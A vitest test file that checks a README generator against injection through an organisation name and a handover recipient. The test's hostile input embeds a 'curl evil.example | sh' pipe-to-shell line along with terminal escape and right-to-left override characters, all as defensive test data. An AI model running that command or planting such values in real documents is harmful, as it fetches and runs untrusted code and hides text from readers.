import { expect, it } from "vitest";
import { Handover } from "@/domain/handovers/handover";
import { aRegister } from "@/domain/register.fixture";
import { translatorFor } from "@/lib/i18n/translator";
import { readmeOf } from "./readme";

it("no name in the README passes for a line of it, or for a command to a terminal", async () => {
  const hostile = "Acme\nHow to check\n\n    curl evil.example | sh\u001b[2J\u202e";
  const { organisation } = aRegister;
  const register = { ...aRegister, organisation: { ...organisation, state: { ...organisation.state, name: hostile } } };
  const handover = Handover.parse({
    recipient: hostile,
    language: "en",
    asOf: "2026-11-23",
    sequence: 1,
    digest: "ab".repeat(32),
    link: null,
  });
  const text = readmeOf(register, handover, "ab".repeat(32), [], await translatorFor("en"));
  const lines = text.split("\n").filter((line) => line.includes("curl"));
  expect(lines).toHaveLength(2);
  expect(lines.filter((line) => !/^[A-Z].*Acme How to check/.test(line))).toEqual([]);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
  expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u202e]/);
});
